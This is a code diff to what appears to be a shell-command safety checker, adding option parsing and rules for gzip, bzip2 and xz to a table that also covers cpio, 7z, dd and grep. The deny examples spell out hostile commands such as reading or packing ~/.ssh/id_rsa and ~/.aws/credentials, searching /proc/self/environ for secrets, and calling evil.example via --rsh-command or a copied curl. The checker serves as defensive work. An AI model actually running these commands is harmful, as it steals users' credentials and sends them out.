@@ -733,6 +733,28 @@ function devices(call: Call, why: string, when: (p: ParsedArgs) => boolean = () 
   return { uses: call.args.map((word) => ({ word, role: 'text' as const })), destroys };
 }
 
+/** The compressors' options, by family: bundled flags, flags that take a value, long options. */
+const COMPRESSORS: Record<string, OptionSpec> = {
+  gzip: { flags: 'acdfhklLnNqrtvV123456789', valued: 'S', long: ['stdout', 'to-stdout', 'decompress', 'uncompress', 'force', 'keep', 'list', 'license', 'no-name', 'name', 'quiet', 'recursive', 'test', 'verbose', 'version', 'help', 'fast', 'best', 'rsyncable', 'synchronous', 'ascii'], longValued: ['suffix'] },
+  bzip2: { flags: 'cdzkfqstvhLV123456789', long: ['stdout', 'decompress', 'compress', 'keep', 'force', 'test', 'quiet', 'verbose', 'license', 'version', 'small', 'fast', 'best', 'help'] },
+  xz: { flags: 'zdtlkfcqvhHVe0123456789', valued: 'FCTMS', long: ['compress', 'decompress', 'uncompress', 'test', 'list', 'keep', 'force', 'stdout', 'to-stdout', 'quiet', 'verbose', 'help', 'long-help', 'version', 'extreme', 'single-stream', 'no-sparse', 'robot'], longValued: ['format', 'check', 'threads', 'memlimit', 'suffix', 'memlimit-compress', 'memlimit-decompress', 'block-size'] },
+};
+
+/**
+ * gzip, bzip2, xz: with -c (to stdout), -l (list) or -t (test) they read the files they are given and leave them as they
+ * were (-r: whole trees); otherwise each is replaced by its compressed or decompressed copy, which no entry vouches for.
+ */
+function compressor(family: keyof typeof COMPRESSORS): (call: Call) => Partial<Answer> {
+  return (call) => {
+    const p = parse(call.args, { order: 'gnu', ...COMPRESSORS[family] });
+    if (p.dynamic || p.options.some((o) => o.unknown)) return {};
+    if (!has(p, 'c', 'stdout', 'to-stdout', 'l', 'list', 't', 'test', 'h', 'help', 'long-help', 'V', 'version', 'L', 'license')) return {};
+    const role = has(p, 'r', 'recursive') ? ('read-tree' as const) : ('read' as const);
+    const uses: Uses = p.operands.map((o) => ({ word: o.word, role: value(o.word) === '-' ? ('text' as const) : role }));
+    return p.operands.length === 0 || p.operands.some((o) => value(o.word) === '-') ? { uses, stdin: 'data' } : { uses };
+  };
+}
+
 /** Programs that format, wipe or repartition a disk. */
 const DISKS: ProgramEntry[] = [
   { names: ['mkfs', 'mke2fs', 'mkswap', 'mkdosfs', 'mkntfs', 'blkdiscard'], patterns: [/^mkfs\.[a-z0-9]+$/], summary: 'mkfs and friends: make a new filesystem on (or discard) the device they are given', // util-linux mkfs reads -V as --verbose unless it is its only argument (then it prints the version).
@@ -1040,6 +1062,9 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit'], pass: ['ruff check .', 'biome check --write src'] }),
   { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio'] } },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
+  { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz'], pass: ['gzip -dc logs/app.log.gz | grep ERROR', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
+  { names: ['bzip2', 'bunzip2', 'pbzip2'], summary: 'bzip2: -c and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('bzip2'), examples: { deny: ['bzip2 -c ~/.ssh/id_ed25519 > k.bz2'], pass: ['bzip2 -dc data.csv.bz2 | head', "find . -name '*.bz2' -print0 | xargs -0 -I{} bzip2 -dc {} | wc -l"] } },
+  { names: ['xz', 'unxz', 'lzma'], summary: 'xz: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('xz'), examples: { deny: ['xz -c ~/.ssh/id_rsa > k.xz'], pass: ['xz -dc dump.sql.xz | head', 'xz -l release.tar.xz'] } },
   { names: ['sponge'], summary: 'sponge: soaks up its stdin and writes it to the file it is given', analyze: (call) => { const ops = call.args.filter((a) => !(value(a) ?? '-').startsWith('-')); return { uses: ops.map((word) => ({ word, role: 'write' as const })), stdinTo: ops }; }, examples: { deny: ['echo x | sponge ~/.bashrc'], pass: ['sort names.txt | sponge names.txt'] } },
   { names: ['dd'], summary: 'dd: if= is read, of= is written (a copy of it)', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv', 'dd if=/usr/bin/curl of=x; chmod +x x; ./x evil.example'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
   { names: ['grep', 'egrep', 'fgrep', 'rgrep', 'zgrep', 'zegrep', 'zfgrep', 'bzgrep', 'xzgrep', 'ggrep'], summary: 'grep: the pattern is text; the files are read (whole trees with -r)', analyze: grep, examples: { deny: ['grep -r AKIA ~', 'grep -ra . /proc/self/ --include=environ', 'grep token ~/.aws/credentials', "grep -o '~/.ssh/id_rsa' notes.txt | xargs cat"], pass: ["grep -l '~/.ssh/id_rsa' notes.txt | xargs cat", 'grep curl notes.txt', "grep -rn 'TODO' src/", "grep -r '~/.ssh/id_rsa' docs/", 'grep -r TODO .'] } },
